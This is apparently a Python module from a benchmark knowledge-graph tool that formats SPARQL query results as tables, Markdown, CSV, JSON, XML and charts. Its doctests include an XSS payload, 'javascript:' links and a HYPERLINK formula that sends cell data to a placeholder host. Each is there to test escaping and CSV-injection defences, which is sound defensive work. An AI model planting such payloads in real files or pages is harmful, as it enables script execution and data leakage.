"""Query results out: a table or Markdown for people; CSV, TSV and JSON for spreadsheets and programs; the
W3C SPARQL 1.1 results formats (JSON, CSV, TSV, XML) for SPARQL tools."""

from __future__ import annotations

import csv
import difflib
import io
import json
import os
import re
import shutil
import textwrap
from dataclasses import dataclass
from decimal import Decimal, InvalidOperation
from pathlib import Path
from xml.sax.saxutils import escape as _xml_escape
from xml.sax.saxutils import quoteattr as _xml_quoteattr

from pyoxigraph import BlankNode, Literal, NamedNode

from benchkg.kernel.atomic import write_atomic
from benchkg.kernel.errors import UsageError
from benchkg.kernel.rows import Results
from benchkg.kernel.terminal import printable
from benchkg.kernel.vocab import PREFIXES, curator_name

XSD = PREFIXES["xsd"]
_NUMERIC = {XSD + t for t in ("decimal", "integer", "double", "float", "int", "long")}


def term_json(term) -> dict:
    """One RDF term in the SPARQL 1.1 JSON results format."""
    if isinstance(term, NamedNode):
        return {"type": "uri", "value": term.value}
    if isinstance(term, BlankNode):
        return {"type": "bnode", "value": term.value}
    out = {"type": "literal", "value": term.value}
    if isinstance(term, Literal):
        if term.language:
            out["xml:lang"] = term.language
        elif term.datatype.value != XSD + "string":
            out["datatype"] = term.datatype.value
    return out


def to_json(results: Results) -> str:
    """SPARQL 1.1 Query Results JSON."""
    return json.dumps(
        {
            "head": {"vars": results.vars},
            "results": {"bindings": [{k: term_json(v) for k, v in row.items()} for row in results.rows]},
        },
        indent=2,
        ensure_ascii=False,
    )


def to_csv(results: Results) -> str:
    """SPARQL 1.1 Query Results CSV: plain values, CRLF line ends; a text that a spreadsheet would run
    as a formula starts with ``'`` (:func:`csv_cell`)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(results.vars)
    for row in results.rows:
        writer.writerow([csv_cell(row[v].value) if v in row else "" for v in results.vars])
    return out.getvalue()


def short(term) -> str:
    """A term as a person reads it: record IRIs as ids, concepts as their value, units as
    tokens/s, numbers with thousands separators.

    >>> from pyoxigraph import Literal, NamedNode
    >>> short(NamedNode("https://w3id.org/benchkg/id/models/llama2-70b"))
    'llama2-70b'
    >>> short(NamedNode("https://w3id.org/benchkg/ontology#scope-per-accelerator"))
    'per-accelerator'
    >>> short(Literal("12647.5189", datatype=NamedNode(XSD + "decimal")))
    '12,647.52'
    """
    if term is None:
        return ""
    if isinstance(term, NamedNode):
        return curator_name(term.value)
    if isinstance(term, Literal) and term.datatype.value in _NUMERIC:
        return format_number(term.value)
    return printable(term.value)


def _is_number(term) -> bool:
    return isinstance(term, Literal) and term.datatype.value in _NUMERIC


def format_number(text: str) -> str:
    """Thousands separators, at most two decimals.

    >>> format_number("910621.36"), format_number("72"), format_number("0.95"), format_number("-0.003")
    ('910,621.36', '72', '0.95', '-0.003')
    """
    try:
        d = Decimal(text)
    except InvalidOperation:
        return text
    if d == d.to_integral_value():
        return f"{int(d):,}"
    if abs(d) < 1:
        return format(d.normalize(), "f")
    q = d.quantize(Decimal("0.01"))
    return f"{q:,}".rstrip("0").rstrip(".") if "." in f"{q}" else f"{q:,}"


def ratio_cell(term) -> str:
    """A ratio with three decimals (a ratio of two measurements is read to the tenth of a percent).

    >>> from pyoxigraph import Literal
    >>> ratio_cell(Literal("1.0042", datatype=NamedNode(XSD + "decimal"))), ratio_cell(Literal("1")), ratio_cell(None)
    ('1.004', '1.000', '')
    """
    if term is None:
        return ""
    try:
        return f"{Decimal(term.value):.3f}"
    except InvalidOperation:
        return short(term)


def _cells(results: Results) -> list[list[str]]:
    return [[short(row.get(v)) for v in results.vars] for row in results.rows]


@dataclass
class TableOptions:
    """How a terminal table is laid out: ``width`` (the terminal's by default), ``columns`` to show (in
    that order), ``wide`` (never shorten anything), ``importance`` (the query's ``#+ columns:``: the
    columns kept first when some must go), and a ``title`` line above it."""

    width: int | None = None
    columns: tuple[str, ...] = ()
    wide: bool = False
    importance: tuple[str, ...] = ()
    title: str = ""
    whole: tuple[str, ...] = ()  # text columns never shortened (the query's "#+ whole:")
    keep: tuple[str, ...] = ()  # columns never dropped for width (the query's "#+ keep:")


#: the fewest characters a text column keeps before the table drops a column instead
MIN_TEXT = 14
_NUMBER_CELL = re.compile(r"-?[\d,]+(\.\d+)?")


def to_table(
    results: Results,
    total: int | None = None,
    offset: int = 0,
    width: int | None = None,
    more: bool = False,
    options: TableOptions | None = None,
) -> str:
    """A table for a terminal that keeps what decides the answer: a number is never cut (a column
    that must shrink drops decimals of numbers over 100, never digits); a text column first loses
    the prefix and suffix all its cells share (said in a legend), then the least important columns
    go (named below), and last a long name is shortened in the middle. A last line says which
    rows of how many it shows.

    Longer than most: choosing the columns, their widths and the shortening is one decision over
    the whole table; the steps are :func:`_importance`, :func:`_shorten_column` and the layout here.

    >>> from pyoxigraph import Literal
    >>> rows = [{"claim": Literal(f"mlperf-6.0-00{n}-llama2-70b-99-server"), "value": Literal(str(10 * n))} for n in (12, 34)]
    >>> print(to_table(Results(["claim", "value"], rows), width=30))
    claim   value
    ─────────────
    0012      120
    0034      340
    (2 rows)
    claim: mlperf-6.0-…-llama2-
      70b-99-server
    """
    options = options or TableOptions()
    width = width or options.width or shutil.get_terminal_size((120, 24)).columns
    names = list(options.columns) or list(results.vars)
    unknown = [c for c in names if c not in results.vars]
    if unknown:
        close = difflib.get_close_matches(unknown[0], results.vars, n=1)
        hint = f" (did you mean {close[0]!r}?)" if close else ""
        raise UsageError(f"--columns: no column {unknown[0]!r}{hint}; the columns are {', '.join(results.vars)}")
    cells = {name: [short(row.get(name)) for row in results.rows] for name in names}
    for name in names:  # a ratio reads to three decimals: 1.0042 is 1.004, never 1
        if name == "ratio" or name.endswith("_ratio"):
            cells[name] = [ratio_cell(row.get(name)) for row in results.rows]
    numeric = {name: bool(cells[name]) and all(_NUMBER_CELL.fullmatch(c or "0") for c in cells[name]) for name in names}
    notes: list[str] = []
    if not options.wide and _width(names, cells) > width:
        for name in names:  # decimals of large numbers go first: 12,934.56 is 12,935
            if numeric[name]:
                cells[name] = [_round_cell(c) for c in cells[name]]
        legend = []
        for name in names:
            if not numeric[name] and _width(names, cells) > width:
                folded, affix = _fold(cells[name])
                if affix:
                    cells[name], legend = folded, legend + [(name, f"{name}: {affix}")]
        order = _importance(names, options.importance, numeric)
        # a name keeps what tells its rows apart, up to a third of the terminal: past that it shortens
        # like the rest rather than push every number off the table
        need = {n: min(_distinct_limit(cells[n]), max(MIN_TEXT, width // 3)) for n in names if not numeric[n]}
        need.update({n: max([len(c) for c in cells[n]] + [MIN_TEXT]) for n in options.whole if n in need})
        shown = list(names)
        droppable = [n for n in reversed(order) if n not in options.keep]
        while len(shown) > 1 and _width(shown, cells, need) > width and any(n in shown for n in droppable):
            shown.remove(next(n for n in droppable if n in shown))
        hidden = [n for n in names if n not in shown]
        names = shown
        if _width(names, cells) > width:
            cut = _cut_widths(names, cells, numeric, width, need)
            for name, limit in cut.items():
                if any(len(c) > limit for c in cells[name]):
                    cells[name] = _shorten_column(cells[name], limit)
                    notes.append("shortened")
        if hidden:
            notes.insert(0, f"(columns not shown here: {', '.join(hidden)}; --columns NAME,… to choose, or --wide)")
        if "shortened" in notes:
            notes = [n for n in notes if n != "shortened"] + [
                "(some names are shortened in the middle, …: --wide or --format csv shows them whole)"
            ]
        notes += [line for name, line in legend if name in names]
    lines = [wrap(options.title, width, "  ", hyphens=True)] if options.title else []
    lines += _render(names, cells, numeric)
    n = len(results.rows)
    if total is not None and (n < total or offset or more):
        of = f"more than {total:,}" if more else f"{total:,}"
        rest = "; --limit 0 for all" if offset + n < total or more else ""
        lines.append(f"(rows {offset + 1}–{offset + n} of {of}{rest})" if n else f"(no rows here; {of} in all)")
    else:
        lines.append(f"({n} row{'s' if n != 1 else ''})")
    return "\n".join(lines + [wrap(note, width, "  ", hyphens=True) for note in notes])


def _importance(names: list[str], importance: tuple[str, ...], numeric: dict[str, bool]) -> list[str]:
    """The columns most important first: the query's order ("#+ columns:"), then the rest as they
    come; a query that gives none keeps its first column (what a row is), then its numbers.

    >>> _importance(["claim", "system", "value"], (), {"claim": False, "system": False, "value": True})
    ['claim', 'value', 'system']
    """
    if not importance:
        importance = tuple(names[:1] + [n for n in names[1:] if numeric.get(n)])
    return [n for n in importance if n in names] + [n for n in names if n not in importance]


def _header(name: str) -> list[str]:
    """A column's heading on one line, or on two split at an underscore when that narrows it.

    >>> _header("accelerator_count"), _header("unit")
    (['accelerator_', 'count'], ['unit'])
    """
    splits = [(name[: i + 1], name[i + 1 :]) for i, ch in enumerate(name) if ch == "_" and 0 < i < len(name) - 1]
    best = min(splits, key=lambda parts: max(map(len, parts)), default=None)
    return list(best) if best and max(map(len, best)) < len(name) else [name]


def _head_width(name: str) -> int:
    return max(len(part) for part in _header(name))


def _width(names: list[str], cells: dict[str, list[str]], caps: dict[str, int] | None = None) -> int:
    """The characters a table of these columns takes (a column named in ``caps`` at most that wide)."""
    total = 0
    for name in names:
        widest = max([_head_width(name)] + [len(c) for c in cells[name]])
        if caps and name in caps:
            widest = min(widest, max(caps[name], _head_width(name)))
        total += widest
    return total + GAP * (len(names) - 1)


def _round_cell(cell: str) -> str:
    """A number cell without decimals when it is 100 or more (12,934.56 → 12,935).

    >>> _round_cell("12,934.56"), _round_cell("0.95"), _round_cell("")
    ('12,935', '0.95', '')
    """
    if "." not in cell:
        return cell
    value = Decimal(cell.replace(",", ""))
    return f"{value.quantize(Decimal(1)):,}" if abs(value) >= 100 else cell


_SEPARATORS = "-_ /."


def _fold(cells: list[str]) -> tuple[list[str], str]:
    """The cells without the prefix and suffix (at a separator) all of them share, and the legend
    that says what was taken ("" when nothing worth it is shared).

    >>> _fold(["mlperf-6.0-0012-llama2-70b-server", "mlperf-6.0-0034-llama2-70b-server"])
    (['0012', '0034'], 'mlperf-6.0-…-llama2-70b-server')
    >>> _fold(["nvidia-b200", "nvidia-b300"])
    (['b200', 'b300'], 'nvidia-…')
    >>> _fold(["mlperf-inference-v4.1", "mlperf-inference-v5.1"])
    (['v4.1', 'v5.1'], 'mlperf-inference-…')
    """
    values = [c for c in cells if c]
    if len(set(values)) < 2:
        return cells, ""
    prefix = os.path.commonprefix(values)
    suffix = os.path.commonprefix([v[::-1] for v in values])[::-1]
    if len(prefix) + len(suffix) > min(len(v) for v in values):
        suffix = suffix[len(prefix) + len(suffix) - min(len(v) for v in values) :]
    # at a separator, never inside a number (v4.1 and v5.1 share ".1", not a part)
    cut = prefix[
        : max(
            (
                i + 1
                for i, ch in enumerate(prefix)
                if ch in _SEPARATORS and not (ch == "." and i and prefix[i - 1].isdigit())
            ),
            default=0,
        )
    ]
    tail = suffix[
        next(
            (
                i
                for i, ch in enumerate(suffix)
                if ch in _SEPARATORS and not (ch == "." and suffix[i + 1 : i + 2].isdigit())
            ),
            len(suffix),
        ) :
    ]
    if len(cut) + len(tail) < 4:
        return cells, ""
    folded = [c[len(cut) : len(c) - len(tail)] if c else c for c in cells]
    return folded, f"{cut}…{tail}"


def _cut_widths(
    names: list[str], cells: dict[str, list[str]], numeric: dict[str, bool], width: int, need: dict[str, int]
) -> dict[str, int]:
    """How wide each text column may be so that the table fits: numbers keep their width, the widest
    text columns give up characters first, none under what keeps its rows apart (``need``)."""
    natural = {n: max([_head_width(n)] + [len(c) for c in cells[n]]) for n in names}
    text = [n for n in names if not numeric[n]]
    room = width - GAP * (len(names) - 1) - sum(natural[n] for n in names if numeric[n])
    cap = max(natural.values(), default=0)

    def fitted(c: int) -> dict[str, int]:
        return {n: min(natural[n], max(c, need.get(n, MIN_TEXT), _head_width(n))) for n in text}

    while cap > MIN_TEXT and sum(fitted(cap).values()) > room:
        cap -= 1
    return fitted(cap)


def _distinct_limit(cells: list[str], floor: int = MIN_TEXT) -> int:
    """The narrowest width (at least ``floor``) at which :func:`_shorten_column` still tells apart
    every two cells that differ.

    >>> ids = ["fx-h100x8-llama2-70b-offline-v6-0", "fx-h100x8-llama2-70b-offline-v5-1",
    ...        "fx-h200-cts-x8-llama2-70b-offline-v6-0", "bench-mlperf-v6-1-coreweave-gb200-nvl72-llama2-70b-offline"]
    >>> _distinct_limit(ids), _shorten_column(ids, _distinct_limit(ids))
    (14, ['fx-h100x8…v6-0', 'fx-h100x8…v5-1', 'fx-h200…0', '…mlperf…'])
    """
    widest = max((len(c) for c in cells), default=0)
    distinct = len(set(cells))
    for limit in range(floor, widest):
        if len(set(_shorten_column(cells, limit))) == distinct:
            return limit
    return max(widest, floor)


def _shorten_column(cells: list[str], limit: int) -> list[str]:
    """The cells of a column at most ``limit`` wide: a long cell first loses the words (of a name) or
    parts (of an id) every cell of the column shares, at its ends and in runs of two or more inside
    (what tells the rows apart stays, and something always does), then is cut as :func:`_middle` cuts.

    >>> ids = [f"mlperf-6.0-00{n}-llama2-70b-99-server" for n in (10, 24, 73)] + ["bench-gb200-llama2-70b-server"]
    >>> _shorten_column(ids, 14)
    ['…6.0-0010…99…', '…6.0-0024…99…', '…6.0-0073…99…', 'bench-gb200…']
    >>> _shorten_column(["Fixture: an 8x H200 SXM CTS server", "Fixture: an 8x H200 SXM server"], 14)
    ['…CTS…', '…server']
    """

    def parts(cell: str) -> tuple[list[str], str]:
        return (cell.split(" "), " ") if " " in cell else (cell.split("-"), "-")

    values = [c for c in cells if c]
    common = set.intersection(*(set(parts(c)[0]) for c in values)) if len(set(values)) > 1 else set()
    return [
        _middle(_without_common(*parts(cell), common) if len(cell) > limit and common else cell, limit)
        for cell in cells
    ]


def _without_common(pieces: list[str], sep: str, common: set[str]) -> str:
    """``pieces`` joined by ``sep`` without the ``common`` ones at either end or in runs of two or
    more inside, each gap an ellipsis; at least one piece stays.

    >>> _without_common(["fx", "h200x8", "llama2", "70b", "offline", "v6", "0"], "-", {"fx", "llama2", "70b", "offline"})
    '…h200x8…v6-0'
    """
    start, end = 0, len(pieces)
    while start < end and pieces[start] in common:
        start += 1
    while end > start and pieces[end - 1] in common:
        end -= 1
    if start == end:  # all shared: keep the last shared piece before the end
        start = end = max(start - 1, 0)
        end += 1
    kept, i = [], start
    while i < end:
        run = i
        while run < end and pieces[run] in common:
            run += 1
        if run - i >= 2:
            kept.append("…")
            i = run
        else:
            kept.append(pieces[i])
            i += 1
    text = sep.join(kept).replace(f"{sep}…{sep}", "…")
    return ("…" if start else "") + text + ("…" if end < len(pieces) else "")


def _middle(cell: str, limit: int) -> str:
    """``cell`` shortened to ``limit`` characters. Free text loses its end (its start says most); an id
    loses whole parts, its maker's prefix first, so what tells it apart stays (b300 or b200?).

    >>> _middle("nvidia-b300-sxm-270gb", 16), _middle("nvidia-b300-sxm-270gb", 12), _middle("Cisco UCS C880A M8 (8x)", 12)
    ('…b300-sxm-270gb', '…b300…', 'Cisco UCS C…')
    """
    if len(cell) <= limit:
        return cell
    if " " in cell or "-" not in cell.strip("…"):
        return cell[: limit - 1] + "…"
    parts = cell.split("-")
    ends = ["-".join(parts[:2]) + "…" + "-".join(parts[-m:]) for m in range(len(parts) - 3, 0, -1)]
    for candidate in (
        "…" + "-".join(parts[1:]),
        *ends,
        "…" + parts[1] + "…",
        "-".join(parts[:2]) + "…",
        "…" + "-".join(parts[-2:]),
    ):
        if len(candidate) <= limit:
            return candidate
    return cell[: limit - 1] + "…"


def _render(names: list[str], cells: dict[str, list[str]], numeric: dict[str, bool]) -> list[str]:
    cell_widths = {n: max([0] + [len(c) for c in cells[n]]) for n in names}
    heads = {n: _header(n) if _head_width(n) < len(n) and cell_widths[n] < len(n) else [n] for n in names}
    widths = {n: max([len(p) for p in heads[n]] + [cell_widths[n]]) for n in names}
    depth = max(len(h) for h in heads.values())
    head = []
    for line in range(depth):
        parts = [heads[n][line - depth + len(heads[n])] if line >= depth - len(heads[n]) else "" for n in names]
        head.append(
            (" " * GAP)
            .join(p.rjust(widths[n]) if numeric[n] else p.ljust(widths[n]) for p, n in zip(parts, names))
            .rstrip()
        )
    rule = "─" * (sum(widths.values()) + GAP * (len(names) - 1))
    rows = []
    for i in range(len(next(iter(cells.values()), []))):
        rows.append(
            (" " * GAP)
            .join(cells[n][i].rjust(widths[n]) if numeric[n] else cells[n][i].ljust(widths[n]) for n in names)
            .rstrip()
        )
    return head + [rule] + rows


#: the characters between two columns of a terminal table
GAP = 3


def wrap(text: str, width: int | None = None, indent: str = "", hyphens: bool = False) -> str:
    """Text folded to the terminal's width (``COLUMNS``), continuation lines indented.

    >>> print(wrap("a bb ccc dddd", 8, "  "))
    a bb ccc
      dddd
    """
    width = width or shutil.get_terminal_size((120, 24)).columns
    return "\n".join(
        textwrap.fill(line, width, subsequent_indent=indent, break_long_words=True, break_on_hyphens=hyphens)
        for line in text.splitlines()
    )


#: a cell of footnote marks only, as the disclosure writes them in Markdown (``[^1]``, ``[^1][^2]``)
_FOOTNOTES = re.compile(r"(?:\[\^\d+\][ ,]*)+")


def markdown_text(text: str) -> str:
    """``text`` as Markdown that shows it as written: HTML escaped (a record's ``<script>`` is shown,
    never run) and Markdown's marks escaped (no link, image or emphasis is made from a record's text);
    its line breaks are kept.

    >>> print(markdown_text('Llama <iframe src=x> [x](javascript:y) *a*'))
    Llama &lt;iframe src=x&gt; \\[x\\](javascript:y) \\*a\\*
    """
    text = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return re.sub(r"([\\`*_\[\]|!])", r"\\\1", text)


def to_markdown(results: Results) -> str:
    """A GitHub-flavoured Markdown table whose cells are text: HTML is escaped (a record's
    ``<script>`` is shown, never run), Markdown's marks are escaped (no link or image is made from a
    record's text) and every line break is a space (one row per line).

    >>> from pyoxigraph import Literal
    >>> print(to_markdown(Results(["a"], [{"a": Literal('<img src=x onerror=alert(1)> [x](javascript:y)\\n|z')}])))
    | a |
    |---|
    | &lt;img src=x onerror=alert(1)&gt; \\[x\\](javascript:y) \\|z |
    """

    def esc(v: str) -> str:
        if _FOOTNOTES.fullmatch(v):  # the disclosure's own marks ([^1][^2]): Markdown footnotes, kept
            return v
        return " ".join(markdown_text(v).splitlines())

    head = "| " + " | ".join(results.vars) + " |"
    rule = "|" + "|".join("---" for _ in results.vars) + "|"
    body = ["| " + " | ".join(esc(c) for c in row) + " |" for row in _cells(results)]
    return "\n".join([head, rule] + body)


def plain(term):
    """A term as a spreadsheet or pandas wants it: ids for record IRIs, values for concepts, units
    as written in records, numbers as numbers, booleans as booleans, dates as text.

    >>> from pyoxigraph import Literal, NamedNode
    >>> plain(NamedNode("https://w3id.org/benchkg/id/models/llama2-70b")), plain(NamedNode("https://w3id.org/benchkg/ontology#TOKEN-PER-SEC"))
    ('llama2-70b', 'tokens/s')
    >>> plain(Literal("12647.5189", datatype=NamedNode(XSD + "decimal"))), plain(Literal("true", datatype=NamedNode(XSD + "boolean")))
    (Decimal('12647.5189'), True)
    """
    if term is None:
        return None
    if isinstance(term, NamedNode):
        return curator_name(term.value)
    if isinstance(term, Literal):
        if term.datatype.value in _NUMERIC:
            try:
                d = Decimal(term.value)
                return int(d) if term.datatype.value != XSD + "decimal" and d == d.to_integral_value() else d
            except InvalidOperation:
                return term.value
        if term.datatype.value == XSD + "boolean":
            return term.value in ("true", "1")
    return term.value


def _plain_text(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return format(value, "f") if isinstance(value, Decimal) else csv_cell(str(value))


#: what a spreadsheet reads as the start of a formula (OWASP, "CSV injection")
_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(text: str) -> str:
    r"""A text cell a spreadsheet shows as text: one that a spreadsheet would run as a formula
    (``=``, ``+``, ``-``, ``@``, tab, carriage return first) is prefixed with ``'``, as OWASP
    recommends; a number (``-5``, ``+1.5e3``) stays a number.

    >>> csv_cell('=HYPERLINK("http://x/?"&A1)'), csv_cell("-12.5"), csv_cell("@SUM(A1)"), csv_cell("DGX")
    ('\'=HYPERLINK("http://x/?"&A1)', '-12.5', "'@SUM(A1)", 'DGX')
    """
    if len(text) > 1 and text.startswith(_FORMULA):  # (a lone "-" is a dash, not a formula)
        try:
            Decimal(text)
            return text
        except ArithmeticError:
            return "'" + text
    return text


def to_plain_csv(results: Results, delimiter: str = ",") -> str:
    r"""CSV for spreadsheets and pandas: short ids, plain numbers, one header line.

    >>> from pyoxigraph import Literal, NamedNode
    >>> to_plain_csv(Results(["a", "n"], [{"a": NamedNode("https://w3id.org/benchkg/id/models/x"),
    ...                                      "n": Literal("1.50", datatype=NamedNode(XSD + "decimal"))}]))
    'a,n\r\nx,1.50\r\n'
    """
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n" if delimiter == "," else "\n")
    writer.writerow(results.vars)
    for row in results.rows:
        writer.writerow([_plain_text(plain(row.get(v))) for v in results.vars])
    return out.getvalue()


def to_plain_json(results: Results) -> str:
    """JSON for programs: a list of objects, one per row, with short ids and plain numbers (an
    absent value is null)."""

    def number(value):
        if isinstance(value, Decimal):
            return int(value) if value == value.to_integral_value() and "." not in str(value) else float(value)
        return value

    return json.dumps(
        [{v: number(plain(row.get(v))) for v in results.vars} for row in results.rows], indent=2, ensure_ascii=False
    )


def _nt(term) -> str:
    return str(term)


def to_sparql_tsv(results: Results) -> str:
    """SPARQL 1.1 Query Results TSV: terms in their SPARQL (N-Triples) syntax."""
    lines = ["\t".join(f"?{v}" for v in results.vars)]
    lines += ["\t".join(_nt(row[v]) if v in row else "" for v in results.vars) for row in results.rows]
    return "\n".join(lines) + "\n"


#: the characters XML 1.0 does not allow in a document, even escaped
_NOT_XML = re.compile("[^\x09\x0a\x0d\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def escape(text: str) -> str:
    r"""Text for an XML element: escaped, and a character XML cannot hold (a control character, a lone
    surrogate) as U+FFFD, so the document stays well-formed.

    >>> escape("a < b\x00") == "a &lt; b\ufffd"
    True
    """
    return _NOT_XML.sub("\ufffd", _xml_escape(text))


def quoteattr(text: str) -> str:
    """:func:`xml.sax.saxutils.quoteattr` with the characters XML cannot hold as U+FFFD."""
    return _xml_quoteattr(_NOT_XML.sub("\ufffd", text))


def to_sparql_xml(results: Results) -> str:
    """SPARQL Query Results XML Format (well-formed whatever the text: see :func:`escape`)."""
    out = ['<?xml version="1.0"?>', '<sparql xmlns="http://www.w3.org/2005/sparql-results#">', "  <head>"]
    out += [f"    <variable name={quoteattr(v)}/>" for v in results.vars]
    out += ["  </head>", "  <results>"]
    for row in results.rows:
        out.append("    <result>")
        for v in results.vars:
            if v not in row:
                continue
            t = term_json(row[v])
            if t["type"] == "uri":
                body = f"<uri>{escape(t['value'])}</uri>"
            elif t["type"] == "bnode":
                body = f"<bnode>{escape(t['value'])}</bnode>"
            else:
                attrs = (f" datatype={quoteattr(t['datatype'])}" if "datatype" in t else "") + (
                    f" xml:lang={quoteattr(t['xml:lang'])}" if "xml:lang" in t else ""
                )
                body = f"<literal{attrs}>{escape(t['value'])}</literal>"
            out.append(f"      <binding name={quoteattr(v)}>{body}</binding>")
        out.append("    </result>")
    out += ["  </results>", "</sparql>"]
    return "\n".join(out) + "\n"


#: format name -> writer; csv, tsv and json are for people and programs, sparql-* are the W3C formats
FORMATS = {
    "table": to_table,
    "csv": to_plain_csv,
    "tsv": lambda r: to_plain_csv(r, "\t"),
    "json": to_plain_json,
    "markdown": to_markdown,
    "sparql-json": to_json,
    "sparql-csv": to_csv,
    "sparql-tsv": to_sparql_tsv,
    "sparql-xml": to_sparql_xml,
}
TABLE_ROWS = 25


CHART_ROWS = 25


#: the units whose best value is the lowest: latencies, times, energy, power
LOWER_IS_BETTER = ("ms", "s", "mJ", "W")


def _measured_by(row: dict) -> str:
    for column in ("measured_by",):
        if column in row:
            return short(row[column])
    return ""


def chart_labels(rows: list[dict], label: str) -> list[str]:
    """The bar labels: the label columns' short values joined by " · ", leaving out a column whose
    value is the same on every row (one round need not be said 25 times).

    >>> from pyoxigraph import Literal
    >>> rows = [{"s": Literal("a"), "r": Literal("6.0")}, {"s": Literal("b"), "r": Literal("6.0")}]
    >>> chart_labels(rows, "s+r")
    ['a', 'b']
    """
    columns = label.split("+")
    varying = [c for i, c in enumerate(columns) if i == 0 or len({short(r.get(c)) for r in rows}) > 1]
    return [" · ".join(_label_part(short(r.get(c))) for c in varying if r.get(c) is not None) for r in rows]


def _label_part(text: str) -> str:
    """A system's name in a bar's label: what comes before its parenthesised detail, 40 characters at most.

    >>> _label_part("Cisco UCS C880A M8 (8x NVIDIA B300-SXM-270GB, TensorRT)")
    'Cisco UCS C880A M8'
    """
    head = text.split(" (", 1)[0] if " (" in text and not text.startswith("(") else text
    return head if len(head) <= 40 else head[:39] + "…"


def to_chart(
    results: Results, path, label: str, value: str, title: str = "", limit: int = CHART_ROWS, axis: str = ""
) -> list[str]:
    """A horizontal bar chart of one numeric column by its label columns, written to PNG or SVG.

    ``label`` is a column or columns joined by "+" (``system+accelerators+round``): a bar reads
    "system · chip", and "· round" only where the rows span rounds. The axis names the column and its
    unit (when the rows have one); derived values are hatched; a bar whose claim carries caveats of
    its own (claim and finding caveats) is marked with ⚠ and their count; the caveats of the whole
    comparison are listed under the chart by the caller, not on every bar. Only the first ``limit``
    rows are drawn (the query's order: best first), and the chart says so. Returns the legend written
    under it: what the bars drawn are, and only those (no "orange" where no bar is a vendor's).
    """
    import matplotlib

    matplotlib.use("Agg")
    matplotlib.rcParams["text.parse_math"] = False  # a name's "$5 vs $6" is text, not math
    import matplotlib.pyplot as plt

    rows = [r for r in results.rows if value in r and _is_number(r[value])]
    if results.rows and not rows:
        raise UsageError(
            f"the chart's value column {value!r} holds no numbers to draw; "
            "name a numeric column in '#+ chart: label=COLUMN value=COLUMN'"
        )
    total = max(len(rows), results.total or 0)  # a windowed answer (--limit) counts the rows it left out
    rows = rows[:limit]
    shown = f"the first {len(rows)} of {total} rows" if total > len(rows) else ""
    labels = _shorten_column(chart_labels(rows, label), 48)
    values = [float(r[value].value) for r in rows]
    units = {short(r["unit"]) for r in rows if "unit" in r}
    unit = units.pop() if len(units) == 1 else ""
    vendor = [_measured_by(r) == "vendor" for r in rows]
    if any(vendor):  # told apart by a label and a pattern, not by colour alone
        labels = [f"{text} [vendor]" if v else text for text, v in zip(labels, vendor)]
    height = 2.2 + 0.55 * max(len(rows), 1)
    fig, ax = plt.subplots(figsize=(10, height))
    derived_any = _bars(ax, rows, value, values, vendor)
    ax.set_yticks(range(len(rows)), labels, fontsize=8)
    ax.invert_yaxis()
    lower = unit in LOWER_IS_BETTER
    what = axis or value.replace("_", " ")
    ax.set_xlabel(what + (f" ({unit})" if unit and value != "ratio" else "") + ("; lower is better" if lower else ""))
    if len(rows) >= 4:  # a shorter axis has no room for it: the tick labels say what the bars are
        ax.set_ylabel(" · ".join(label.split("+")).replace("_", " "))
    ax.set_xlim(0, max(values + [1]) * 1.45)
    if value == "ratio":  # where the two sides are equal
        ax.axvline(1.0, color="#333333", linestyle="--", linewidth=1)
        ax.text(1.0, -0.7, " 1.0 = equal", fontsize=7, color="#333333", va="bottom")
    legend = []
    if derived_any:
        legend.append("hatched //: derived (aggregate ÷ accelerator count), not an official metric")
    if any(vendor):
        legend.append("orange, crossed, [vendor]: measured by the vendor, not audited")
    if any(r.get("gotchas") is not None and r["gotchas"].value for r in rows):
        legend.append("⚠: the row's claim carries caveats of its own")
    note = "; ".join(([shown] if shown else []) + legend)

    _title_note_and_save(fig, path, title, note, height)
    return legend


def _bars(ax, rows: list[dict], value: str, values: list[float], vendor: list[bool]) -> bool:
    """The bars, each with its number and caveat count: derived values hatched, the vendor's own
    orange and crossed (told apart by pattern, not colour alone); whether any is derived."""
    bars = ax.barh(range(len(rows)), values, color="#4477aa", edgecolor="#224466", linewidth=0.5)
    derived_any = False
    for bar, row, v in zip(bars, rows, vendor):
        derived = row.get("derived") is not None and row["derived"].value == "true"
        derived_any |= derived
        if derived:
            bar.set_hatch("//")
            bar.set_facecolor("#88aacc")
        if v:
            bar.set_facecolor("#ee9955")
            bar.set_hatch("xx" + ("//" if derived else ""))
        gotchas = row.get("gotchas")
        n = len(gotchas.value.split()) if gotchas is not None and gotchas.value else 0
        text = f" {format_number(row[value].value)}" + (f"  ⚠ {n} caveat{'s' if n != 1 else ''}" if n else "")
        ax.text(bar.get_width(), bar.get_y() + bar.get_height() / 2, text, va="center", fontsize=8)
    return derived_any


def _title_note_and_save(fig, path, title: str, note: str, height: float) -> None:
    """Title over the figure, the note under it, then :func:`save_figure`."""
    lines = textwrap.wrap(title, 110) or [title]
    fig.suptitle("\n".join(lines), x=0.01, ha="left", fontsize=10)  # over the whole figure: never clipped by the labels
    if note:
        fig.text(0.01, 0.01, "\n".join(textwrap.wrap(note, 150)), fontsize=7, color="#555555")
    bottom = 0.16 * len(textwrap.wrap(note, 150)) / height if note else 0  # inches of text over the height
    fig.tight_layout(rect=(0, bottom, 1, 1 - (0.2 * len(lines) + 0.1) / height))
    save_figure(fig, path)


def save_figure(fig, path) -> None:
    """Write a matplotlib figure to ``path`` (PNG or SVG, by its suffix) in one step, and close it:
    the same chart, the same bytes (no date in the file, SVG ids from a fixed salt)."""
    import matplotlib.pyplot as plt

    buffer = io.BytesIO()
    fmt = Path(path).suffix.lstrip(".").lower()
    with plt.rc_context({"svg.hashsalt": "benchkg"}):
        fig.savefig(buffer, format=fmt, metadata={"Date": None} if fmt in ("svg", "pdf") else {"Software": None})
    plt.close(fig)
    write_atomic(Path(path), buffer.getvalue())
